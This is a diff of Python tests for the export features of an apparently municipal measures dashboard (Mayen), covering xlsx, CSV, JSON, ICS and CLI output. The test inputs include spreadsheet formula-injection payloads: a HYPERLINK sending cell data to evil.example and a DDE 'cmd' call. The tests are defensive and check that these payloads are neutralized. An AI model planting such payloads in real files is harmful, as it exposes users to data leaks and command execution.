@@ -1,19 +1,39 @@
+import csv
 import datetime as dt
+import hashlib
 import io
+import json
+import zipfile
 
+import pandas as pd
+import pytest
+from icalendar import Calendar
 from openpyxl import load_workbook
+from python_calamine import CalamineWorkbook
 
+from mayen_dash.cli import main
+from mayen_dash.diff import normalize_title
 from mayen_dash.exports import (
     DUE_LABEL,
+    FORMATS,
+    ICS_DOMAIN,
+    ICS_PRODID,
     OVERDUE_LABEL,
     UNITS_LABEL,
     display_frame,
     due_soon_frame,
+    export_measures,
     measure_details,
+    measure_uid,
+    measure_uids,
     measures_xlsx,
+    neutralize,
     overdue_frame,
 )
 from mayen_dash.loader import load_report
+from mayen_dash.normalize import split_units
+from mayen_dash.tables import cell_text
+from mayen_dash.vocabulary import STATUS_CODES
 from tests.builders import BUNDLED, csv_bytes
 
 HOSTILE = ["=1+1", "+49 2651", "-Investitionen", "@SUM(A1)", "\tTab", '=HYPERLINK("http://x","klick")']
@@ -71,3 +91,347 @@ def test_measure_details():
     assert details[DUE_LABEL] == "31.12.2023"
     assert details[OVERDUE_LABEL] == "nein"
     assert details["Anmerkungen"] == "–"
+
+
+# --- export_measures: xlsx, csv, json, ics -------------------------------------------------------------
+
+
+# Everything that a spreadsheet program could take for a formula, and text that XML cannot carry as it is.
+INJECTIONS = [
+    "=1+1",
+    "+49 2651 88-0",
+    "-x",
+    "@SUM(A1)",
+    "\tTab",
+    "\rCR",
+    '=HYPERLINK("http://evil.example/?q="&A1,"Klick")',
+    "=cmd|' /C calc'!A0",
+    "_x000D_ steht so da",
+    "Steuer\x01zeichen",
+]
+AS_OF = dt.date(2023, 1, 1)
+STAMP = dt.datetime(2024, 1, 31, 9, 15, tzinfo=dt.UTC)
+
+
+def measures_frame(rows: list[dict]) -> pd.DataFrame:
+    """A measure table as the loader builds it, for texts the loader itself would never produce (tab, CR)."""
+    defaults = {
+        "id": "",
+        "area": "Innovatives Wissen",
+        "group": "",
+        "title": "Maßnahme",
+        "status": "offen",
+        "status_raw": "offen",
+        "responsible": "Zentralbereich 1",
+        "units": ("Zentralbereich 1",),
+        "target": "2023",
+        "start": pd.Timestamp("2023-01-01"),
+        "due": pd.Timestamp("2023-12-31"),
+        "ongoing": False,
+        "remarks": "",
+        "sheet": "Maßnahmen",
+        "row": 2,
+    }
+    frame = pd.DataFrame([{**defaults, **row} for row in rows])
+    frame["status"] = pd.Categorical(frame["status"], categories=list(STATUS_CODES))
+    frame["area"] = pd.Categorical(frame["area"])
+    for column in ("start", "due"):
+        frame[column] = frame[column].astype("datetime64[s]")
+    return frame
+
+
+def hostile_measures() -> pd.DataFrame:
+    return measures_frame(
+        [
+            {"id": text, "title": text, "responsible": text, "units": (text,), "target": text, "remarks": text}
+            for text in INJECTIONS
+        ]
+    )
+
+
+def csv_rows(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: German Excel reads the umlauts right
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+@pytest.fixture(scope="module")
+def bundled():
+    return load_report(BUNDLED)
+
+
+def test_xlsx_export_round_trips_every_field_of_the_bundled_report(bundled):
+    data = export_measures(bundled.measures, "xlsx", AS_OF)
+    again = load_report(data, "export.xlsx")
+    before, after = bundled.measures, again.measures
+    assert len(after) == len(before) == 101
+    # Status is written as its label ("abgeschlossen" comes back as "erledigt"): the code survives, not the spelling.
+    for column in ("id", "area", "group", "title", "status", "responsible", "target", "remarks"):
+        assert after[column].astype(str).tolist() == before[column].astype(str).tolist(), column
+    # The Organisation sheet carries the units, also those the source's own Organisation sheet defined.
+    assert after["units"].tolist() == before["units"].tolist()
+    assert after["due"].equals(before["due"])
+    assert after["start"].equals(before["start"])
+    assert again.warnings == []
+
+
+def test_csv_export_is_for_german_excel_and_round_trips(bundled):
+    data = export_measures(bundled.measures, "csv", AS_OF)
+    assert data.startswith(b"\xef\xbb\xbfID;Handlungsfeld;Zielgruppe;Ma\xc3\x9fnahme;Status;")
+    assert b"\r\n" in data
+    rows = csv_rows(data)
+    header, body = rows[0], rows[1:]
+    assert len(body) == 101
+    record = next(dict(zip(header, row, strict=True)) for row in body if row[0] == "EG-B-41")
+    assert record["Status"] == "in Bearbeitung"
+    assert record[DUE_LABEL] == "31.12.2024"
+    assert record[OVERDUE_LABEL] == "nein"
+    again = load_report(data, "export.csv").measures
+    before = bundled.measures
+    for column in ("id", "area", "group", "title", "status", "responsible", "target", "remarks"):
+        assert again[column].astype(str).tolist() == before[column].astype(str).tolist(), column
+    assert again["due"].equals(before["due"])
+    # Without a second sheet the units come from the Verantwortlichkeit text by the loader's default rules.
+    assert again["units"].tolist() == [split_units(r) for r in before["responsible"]]
+
+
+def test_csv_units_round_trip_when_the_source_has_no_organisation_sheet():
+    rows = [["Maßnahme", "Status", "Verantwortlichkeit"], ["A", "offen", "ZB 1/Bereich 2.1"], ["B", "erledigt", ""]]
+    report = load_report(csv_bytes(rows, ";", "utf-8"), "liste.csv")
+    again = load_report(export_measures(report.measures, "csv"), "export.csv")
+    assert again.measures["units"].tolist() == report.measures["units"].tolist()
+    assert again.measures["units"].tolist()[0] == ("Zentralbereich 1", "Bereich 2.1")
+
+
+def test_xlsx_keeps_hostile_text_inert_and_exact():
+    measures = hostile_measures()
+    data = export_measures(measures, "xlsx", AS_OF)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
+    sheet = load_workbook(io.BytesIO(data))["Maßnahmen"]
+    header = [c.value for c in sheet[1]]
+    for label in ("ID", "Maßnahme", "Verantwortlichkeit", "Zieldatum", "Anmerkungen", UNITS_LABEL):
+        cells = [row[header.index(label)] for row in sheet.iter_rows(min_row=2)]
+        assert len(cells) == len(INJECTIONS)
+        assert all(cell.data_type == "s" for cell in cells), label
+    # The exact text, leading tab and carriage return included, as Excel (and calamine) decode the file.
+    values = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("Maßnahmen").to_python()
+    column = values[0].index("Maßnahme")
+    assert [row[column] for row in values[1:]] == INJECTIONS
+
+
+def test_legacy_measures_xlsx_is_the_same_safe_writer():
+    data = measures_xlsx(hostile_measures(), AS_OF)
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert all(c.data_type == "s" for c in sheet["D"][1:])
+
+
+def test_csv_neutralizes_formula_triggers_and_keeps_the_text_whole():
+    measures = hostile_measures()
+    rows = csv_rows(export_measures(measures, "csv", AS_OF))
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(INJECTIONS)
+    for label in ("ID", "Maßnahme", "Verantwortlichkeit", "Zieldatum", "Anmerkungen", UNITS_LABEL):
+        cells = [row[header.index(label)] for row in body]
+        for text, cell in zip(INJECTIONS, cells, strict=True):
+            if text.startswith(("=", "+", "-", "@", "\t", "\r")):
+                assert cell == "'" + text, (label, cell)
+            else:
+                assert cell == text
+    # The loader does not strip the apostrophe: it reads what Excel shows. After it the text is whole
+    # (up to the whitespace clean-up the loader applies to every cell).
+    again = load_report(export_measures(measures, "csv"), "export.csv").measures
+    assert again["title"].tolist() == [cell_text(neutralize(t)) for t in INJECTIONS]
+    assert again["title"].tolist()[:4] == ["'=1+1", "'+49 2651 88-0", "'-x", "'@SUM(A1)"]
+    assert again["title"].tolist()[6] == "'" + INJECTIONS[6]
+
+
+def test_neutralize():
+    assert neutralize("=1+1") == "'=1+1"
+    assert neutralize("\rx") == "'\rx"
+    assert neutralize("Gewerbe-Anmeldung") == "Gewerbe-Anmeldung"
+    assert neutralize("") == ""
+
+
+def test_json_export_shape(bundled):
+    document = json.loads(export_measures(bundled.measures, "json", AS_OF, report=bundled, exported_at=STAMP))
+    assert set(document) == {"title", "report_date", "exported_at", "count", "measures"}
+    assert document["title"] == "Digitalisierungsstrategie der Stadt Mayen"
+    assert document["report_date"] == "2022-08-31"
+    assert document["exported_at"] == "2024-01-31T09:15:00+00:00"
+    assert document["count"] == len(document["measures"]) == 101
+    keys = [
+        "id",
+        "area",
+        "group",
+        "title",
+        "status",
+        "status_label",
+        "status_raw",
+        "responsible",
+        "units",
+        "target",
+        "start",
+        "due",
+        "ongoing",
+        "remarks",
+    ]
+    assert all(list(m) == keys for m in document["measures"])
+    measure = next(m for m in document["measures"] if m["id"] == "EG-B-41")
+    assert measure["status"] == "in_bearbeitung"
+    assert measure["status_label"] == "in Bearbeitung"
+    assert measure["units"] == ["Zentralbereich 1", "Bereich 2.1", "Kreisverwaltung Mayen-Koblenz"]
+    assert measure["target"] == "2022/2024"
+    assert (measure["start"], measure["due"]) == ("2022-01-01", "2024-12-31")
+    ongoing = next(m for m in document["measures"] if m["id"] == "EG-B-02")
+    assert (ongoing["due"], ongoing["start"]) == (None, None)
+    assert all(isinstance(m["ongoing"], bool) for m in document["measures"])
+
+
+def test_json_without_report_and_with_hostile_text():
+    document = json.loads(export_measures(hostile_measures(), "json"))
+    assert document["title"] == ""
+    assert document["report_date"] is None
+    assert [m["title"] for m in document["measures"]] == INJECTIONS
+    dt.datetime.fromisoformat(document["exported_at"])
+
+
+def events(data: bytes) -> list:
+    calendar = Calendar.from_ical(data)
+    assert str(calendar["PRODID"]) == ICS_PRODID
+    assert str(calendar["VERSION"]) == "2.0"
+    return calendar.walk("VEVENT")
+
+
+def test_ics_has_one_all_day_event_per_measure_with_a_due_date(bundled):
+    measures = bundled.measures
+    found = events(export_measures(measures, "ics", AS_OF, report=bundled, exported_at=STAMP))
+    assert len(found) == int(measures["due"].notna().sum()) == 28
+    for event in found:
+        start = event.decoded("DTSTART")
+        assert type(start) is dt.date  # all-day, not a datetime
+        assert event["DTSTART"].params["VALUE"] == "DATE"
+        assert event.decoded("DTEND") == start + dt.timedelta(days=1)
+        assert event.decoded("DTSTAMP") == STAMP
+        assert str(event["UID"]).endswith("@" + ICS_DOMAIN)
+    by_uid = {str(e["UID"]): e for e in found}
+    assert len(by_uid) == len(found)
+    event = by_uid[f"massnahme-eg-u-02@{ICS_DOMAIN}"]
+    assert str(event["SUMMARY"]) == "Gewerbeanmeldung (in Bearbeitung)"
+    assert event.decoded("DTSTART") == dt.date(2022, 10, 31)
+    description = str(event["DESCRIPTION"])
+    assert "Verantwortlichkeit: Zentralbereich 1/Bereich 2.1" in description
+    assert "Zieldatum: 10/2022" in description
+    assert "Anmerkungen: Implementierung Fachverfahren inkl. E-Akte" in description
+
+
+def test_ics_uids_are_stable_across_exports_and_unique():
+    measures = measures_frame(
+        [
+            {"id": "EG-B-01", "title": "Eins"},
+            {"id": "", "title": "Gewerbe-Anmeldung", "responsible": "Zentralbereich 1"},
+            {"id": "", "title": "Gewerbe-Anmeldung", "responsible": "Bereich 2.1"},
+            {"id": "WT-01", "title": "Doppelt"},
+            {"id": "wt-01 ", "title": "Doppelt, zweite Zeile"},
+            {"id": "", "title": "Ohne Datum", "due": pd.NaT, "start": pd.NaT, "target": "laufend"},
+        ]
+    )
+    first = events(export_measures(measures, "ics", exported_at=STAMP))
+    second = events(export_measures(measures, "ics", exported_at=STAMP + dt.timedelta(days=30)))
+    uids = [str(e["UID"]) for e in first]
+    assert uids == [str(e["UID"]) for e in second]
+    assert len(set(uids)) == len(uids) == 5
+    assert uids[0] == f"massnahme-eg-b-01@{ICS_DOMAIN}"
+    assert uids[3:] == [f"massnahme-wt-01@{ICS_DOMAIN}", f"massnahme-wt-01-2@{ICS_DOMAIN}"]
+    # Without an ID: a hash of the normalised title and Verantwortlichkeit, so spelling noise does not matter.
+    digest = hashlib.sha256(f"{normalize_title('Gewerbe-Anmeldung')}\nzentralbereich 1".encode()).hexdigest()
+    assert uids[1] == f"titel-{digest[:24]}@{ICS_DOMAIN}"
+    assert measure_uid("", "gewerbe  anmeldung", "Zentralbereich  1") == uids[1]
+    assert measure_uids(measures)[:5] == uids
+
+
+def test_ics_keeps_hostile_text_as_text():
+    found = events(export_measures(hostile_measures(), "ics", exported_at=STAMP))
+    assert len(found) == len(INJECTIONS)
+    summaries = [str(e["SUMMARY"]) for e in found]
+    assert summaries[0] == "=1+1 (offen)"
+    assert summaries[5].strip() == "CR (offen)"  # a carriage return becomes a line break; other controls go
+    assert all("\r" not in s for s in summaries)
+    assert summaries[9] == "Steuerzeichen (offen)"
+
+
+def test_export_keeps_every_measure_and_rejects_unknown_formats(bundled):
+    for fmt in FORMATS:
+        assert export_measures(bundled.measures.head(0), fmt, AS_OF, report=bundled)
+    with pytest.raises(ValueError, match="unknown export format"):
+        export_measures(bundled.measures, "pdf")
+
+
+# --- python -m mayen_dash export ----------------------------------------------------------------------
+
+
+def run(capsys, *args):
+    code = main([str(a) for a in args])
+    out = capsys.readouterr()
+    return code, out.out, out.err
+
+
+def test_cli_export_csv_with_department_and_statuses(capsys, tmp_path):
+    target = tmp_path / "fachbereich.csv"
+    code, out, _ = run(
+        capsys, "export", BUNDLED, "--format", "csv", "-o", target, "--department", "fachbereich 1",
+        "--status", "In Bearbeitung", "--status", "offen",
+    )  # fmt: skip
+    assert code == 0
+    rows = csv_rows(target.read_bytes())
+    assert len(rows) - 1 == 4 + 3
+    assert {r[rows[0].index("Status")] for r in rows[1:]} == {"in Bearbeitung", "offen"}
+    assert all("Fachbereich 1" in r[rows[0].index(UNITS_LABEL)].split("; ") for r in rows[1:])
+    assert "7 Maßnahmen" in out
+    assert "Organisationseinheit: Fachbereich 1 · Status: in Bearbeitung, offen" in out
+
+
+def test_cli_export_formats_by_suffix_and_to_stdout(capsys, tmp_path):
+    code, _, _ = run(capsys, "export", BUNDLED, "-o", tmp_path / "alle.xlsx")
+    assert code == 0
+    assert len(load_report(tmp_path / "alle.xlsx").measures) == 101
+    code, out, err = run(capsys, "export", BUNDLED, "--format", "json", "-o", "-", "--status", "erledigt")
+    assert code == 0
+    document = json.loads(out)
+    assert document["count"] == 56
+    assert {m["status"] for m in document["measures"]} == {"erledigt"}
+    assert "56 Maßnahmen" in err
+    code, out, _ = run(capsys, "export", BUNDLED, "-o", tmp_path / "termine.ics", "--as-of", "2023-01-01")
+    assert code == 0
+    assert len(events((tmp_path / "termine.ics").read_bytes())) == 28
+    assert "28 davon mit Zieldatum" in out
+
+
+def test_cli_export_errors(capsys, tmp_path, write):
+    code, _, err = run(capsys, "export", BUNDLED, "-o", tmp_path / "x.txt")
+    assert code == 2
+    assert "--format" in err
+    with pytest.raises(SystemExit) as caught:
+        main(["export", str(BUNDLED), "-o", str(tmp_path / "x.csv"), "--status", "fertigish"])
+    assert caught.value.code == 2
+    assert "kein Status" in capsys.readouterr().err
+    with pytest.raises(SystemExit) as caught:
+        main(["export", str(BUNDLED), "-o", str(tmp_path / "x.csv"), "--format", "pdf"])
+    assert caught.value.code == 2
+    code, _, err = run(capsys, "export", tmp_path / "fehlt.xlsx", "-o", tmp_path / "x.csv")
+    assert code == 2
+    assert "gibt es nicht" in err
+    code, _, err = run(capsys, "export", write("leer.csv", b""), "-o", tmp_path / "x.csv")
+    assert code == 1
+    assert err.startswith("Abgelehnt: Die Datei ist leer.")
+    code, _, err = run(capsys, "export", BUNDLED, "-o", tmp_path / "kein" / "ordner.csv")
+    assert code == 2
+    assert "den Ordner gibt es nicht" in err
+
+
+def test_cli_export_unknown_department_hints_like_summary(capsys, tmp_path):
+    code, _, err = run(capsys, "export", BUNDLED, "-o", tmp_path / "x.json", "--department", "Nirgendwo")
+    assert code == 0
+    assert "kommt in der Datei nicht vor" in err
+    assert json.loads((tmp_path / "x.json").read_bytes())["count"] == 0
